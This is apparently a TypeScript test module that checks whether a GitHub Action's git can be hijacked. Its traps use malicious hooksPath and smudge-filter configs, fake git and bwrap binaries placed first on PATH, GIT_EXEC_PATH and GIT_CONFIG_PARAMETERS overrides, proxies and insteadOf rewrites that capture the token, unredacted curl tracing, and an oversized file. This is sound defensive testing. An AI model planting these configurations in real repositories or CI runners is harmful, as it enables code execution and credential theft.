import { execFileSync } from 'node:child_process';
import { existsSync, readFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { type Files, lay } from '../../stand-ins/laptop.ts';
import { bash, bug, handIn, project, session } from '../../stand-ins/sums.ts';
import type { Attack, Group } from '../attack.ts';
import { documents } from '../lab.ts';
import { type Machine, plant } from '../machine.ts';

/** What leads the git that the action itself runs astray, outside of every room. */
interface Trap extends Attack {
  /** Lines of ~/.gitconfig: an earlier step's, or of a machine that many jobs share. */
  config?: (place: Place) => string;
  /** Variables of the job, which an earlier step may have set by GITHUB_ENV. */
  env?: (place: Place) => Record<string, string>;
  /** What the change brings along. */
  head?: (place: Pick<Place, 'ran'>) => Files;
  /** Files of the machine, in a directory that is `place.apart`. */
  apart?: (place: Place) => Files;
  /** Whether `apart` comes first on the job's PATH. */
  onPath?: true;
}

interface Place {
  machine: Machine;
  serverUrl: string;
  /** A directory of the machine, but one that a job hides: in its workspace. */
  apart: string;
  /** A line of shell that shows that it was run. */
  ran: string;
  /** The file by which it shows. */
  mark: string;
}

let count = 0;
const trap = (rows: string, name: string, more: Partial<Trap>): Trap => {
  count += 1;
  return {
    id: `own-git-${String(count).padStart(2, '0')}`,
    rows: rows.split(' '),
    name,
    layer: 'clean-git',
    ...more,
  };
};

const script = (...lines: string[]) => ({ executable: `#!/bin/sh\n${lines.join('\n')}\n` });
const pathOf = (program: string): string =>
  execFileSync('sh', ['-c', `command -v ${program}`], { encoding: 'utf8' }).trim();

const bomb = trap('C15', 'a file that is small in a patch and large once it is unpacked', {});

const together: readonly Trap[] = [
  trap('C1', 'hooks of the change, by a hooksPath that many machines have', {
    config: () => '[core]\n\thooksPath = .githooks\n',
    head: ({ ran }) => ({ '.githooks/post-checkout': script(ran) }),
  }),
  trap('C1 C2', 'a filter that the change’s .gitattributes names', {
    config: () => '[filter "attack"]\n\tsmudge = ./.attack/smudge.sh\n',
    head: ({ ran }) => ({
      '.gitattributes': '*.txt filter=attack\n',
      '.attack/smudge.sh': script(ran, 'cat'),
      'a.txt': 'x\n',
    }),
  }),
  trap('B7', 'a trace of all requests, with the token', {
    env: ({ mark }) => ({ GIT_TRACE_CURL: mark, GIT_TRACE_REDACT: '0' }),
  }),
  trap('C10 C6', 'a git in front of the machine’s on PATH', {
    apart: ({ ran }) => ({ 'bin/git': script(ran, `exec ${pathOf('git')} "$@"`) }),
    onPath: true,
  }),
  trap('C10 C6', 'a bubblewrap in front of the machine’s on PATH', {
    apart: ({ ran }) => ({ 'bin/bwrap': script(ran, `exec ${pathOf('bwrap')} "$@"`) }),
    onPath: true,
    strongest: true,
  }),
  bomb,
];

/** Once one of these has won, nothing else is as it was. */
const apart: readonly Trap[] = [
  trap('C1', 'a template with a hook for new repositories', {
    config: ({ apart }) => `[init]\n\ttemplateDir = ${apart}/template\n`,
    apart: ({ ran }) => ({ 'template/hooks/post-checkout': script(ran) }),
  }),
  trap('C1', 'insteadOf, so that commits come from elsewhere', {
    config: ({ machine, serverUrl, mark }) =>
      `[url "http://127.0.0.1:${machine.services.tcp}${mark}/"]\n\tinsteadOf = ${serverUrl}/\n`,
  }),
  trap('C1 B7', 'a proxy in ~/.gitconfig, which sees the token', {
    config: ({ machine }) => `[http]\n\tproxy = http://127.0.0.1:${machine.services.tcp}\n`,
  }),
  trap('B7', 'a proxy in the environment, which sees the token', {
    env: ({ machine }) => ({ http_proxy: `http://127.0.0.1:${machine.services.tcp}` }),
  }),
  trap('C1 C6', 'programs of git from elsewhere, by GIT_EXEC_PATH', {
    env: ({ apart }) => ({ GIT_EXEC_PATH: join(apart, 'core') }),
    apart: ({ ran }) => ({ 'core/git-remote-http': script(ran), 'core/git-remote-https': script(ran) }),
  }),
  trap('C1 C6', 'settings by the environment', {
    env: ({ apart }) => ({ GIT_CONFIG_PARAMETERS: `'core.hooksPath'='${apart}/hooks'` }),
    apart: ({ ran }) => ({ 'hooks/post-checkout': script(ran) }),
  }),
];

/** All traps at once: whoever falls into none of them falls into none of them alone. */
const group = (name: string, traps: readonly Trap[], alone: boolean): Group => ({
  name,
  attacks: traps,
  alone,
  run: async (lab, chosen) => {
    const tried = traps.filter(({ id }) => chosen.has(id));
    const marks = lab.directory('ran');
    const mark = ({ id }: Trap): string => join(marks, id);
    const ran = (one: Trap): string => `: > ${mark(one)}`;
    const scene = await lab.scene({
      head: Object.assign({}, project, bug, ...tried.map((one) => one.head?.({ ran: ran(one) }))),
    });
    const machine = await plant(lab, scene);
    const { serverUrl } = scene.github;
    const placeOf = (one: Trap): Place => ({
      machine,
      serverUrl,
      apart: join(machine.workspace, 'apart'),
      ran: ran(one),
      mark: mark(one),
    });
    const settings = tried.map((one) => one.config?.(placeOf(one)) ?? '').join('');
    lay(machine.home, { '.gitconfig': settings });
    for (const one of tried) lay(join(machine.workspace, 'apart'), one.apart?.(placeOf(one)) ?? {});
    if (chosen.has(bomb.id)) {
      const fill = 'head -c 40000000 /dev/zero > zeros.bin';
      scene.model.add(session(bash(fill), handIn()), { forever: { status: 400 }, times: Infinity });
    } else scene.model.add({ forever: { status: 400 }, times: Infinity });
    const result = await scene.run('fix', {
      ...machine.more,
      env: Object.assign({}, machine.more.env, ...tried.map((one) => one.env?.(placeOf(one)))),
      extraPath: [
        ...(tried.some(({ onPath }) => onPath) ? [join(machine.workspace, 'apart/bin')] : []),
        dirname(process.execPath),
      ],
      inputs: { 'max-attempts': '1' },
    });
    const heard = machine.heard();
    const won = new Map<string, string>();
    for (const one of tried) {
      const what = existsSync(mark(one)) ? readFileSync(mark(one), 'utf8') : undefined;
      if (what === '') won.set(one.id, 'it was run');
      else if (what !== undefined) won.set(one.id, `it wrote down ${scene.canaries.in(what).join(', ')}`);
      else if (heard.includes(mark(one))) won.set(one.id, 'the other server was asked');
      else if (tried.length === 1 && heard !== '')
        won.set(one.id, `the other server was told ${scene.canaries.in(heard).join(', ')}`);
    }
    if (chosen.has(bomb.id) && documents(result, 'patch').length > 0) won.set(bomb.id, 'it was taken over');
    if (tried.length > 1 && heard !== '' && won.size === 0)
      won.set('the whole run', `another server was asked: ${heard.slice(0, 60)}`);
    if (chosen.has(bomb.id) && !result.log.includes('propose'))
      throw new Error(`no session came about: ${result.log.slice(-2000)}`);
    return won;
  },
});

export const ownGit = group('the git that the action runs', together, false);
export const ownGitAstray = group('the git that the action runs, where it leads elsewhere', apart, true);
